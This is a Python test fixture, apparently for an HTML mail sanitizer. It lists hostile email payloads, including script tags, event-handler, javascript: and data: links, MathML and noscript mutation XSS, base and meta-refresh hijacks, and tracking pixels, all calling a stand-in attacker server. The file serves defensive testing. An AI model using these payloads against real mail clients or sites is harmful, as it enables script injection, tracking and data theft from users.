"""Hostile HTML mail: each payload tries to run script, reach a remote host or cover the page.

`{evil}` stands for the attacker's server (a local one the browser tests watch).
"""

from __future__ import annotations

HOSTILE = {
    "script": '<script>fetch("{evil}/script")</script>',
    "event handler": "<img src=x onerror=\"fetch('{evil}/onerror')\"><body onload=\"fetch('{evil}/onload')\">",
    "javascript link": "<a href=\"javascript:fetch('{evil}/js')\">javascript link</a>",
    "entity-encoded javascript": '<a href="&#106;avascript:fetch(&#39;{evil}/js2&#39;)">encoded link</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">vbscript link</a>',
    "data link": "<a href=\"data:text/html,<script>fetch('{evil}/data')</script>\">data link</a>",
    "svg": "<svg onload=\"fetch('{evil}/svg')\"><image href=\"{evil}/svg-image\"/><script>fetch('{evil}/svg-script')</script></svg>",
    "mathml mutation": "<math><mtext><table><mglyph><style><img src=x onerror=\"fetch('{evil}/mxss')\"></style></mglyph></table></mtext></math>",
    "noscript mutation": "<noscript><p title=\"</noscript><img src=x onerror=fetch('{evil}/noscript')>\"></noscript>",
    "base": '<base href="{evil}/"><a href="relative">relative link</a><img src="relative.png">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url={evil}/refresh">',
    "form": '<form action="{evil}/form" method="post"><input name="q" value="x"><button>Send</button></form>',
    "overlay css": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url({evil}/css-bg)">overlay</div>',
    "style sheet": "<style>@import url({evil}/import.css); body {{ background: url({evil}/style-bg) }}</style>",
    "link sheet": '<link rel="stylesheet" href="{evil}/link.css">',
    "tracking pixel": '<img src="{evil}/pixel.gif" width="1" height="1">',
    "frames and objects": '<iframe src="{evil}/frame"></iframe><object data="{evil}/object"></object><embed src="{evil}/embed">',
    "media": '<video poster="{evil}/poster" src="{evil}/video"></video><audio src="{evil}/audio"></audio>',
    "background attributes": '<table background="{evil}/table-bg"><tr><td background="{evil}/td-bg">cell</td></tr></table>',
    "srcset": '<img srcset="{evil}/srcset.png 2x">',
    "input image": '<input type="image" src="{evil}/input-image">',
    "protocol-relative image": '<img src="//127.0.0.2/protocol-relative.png">',
    "ordinary link": '<a href="{evil}/ordinary">an ordinary link</a>',
}
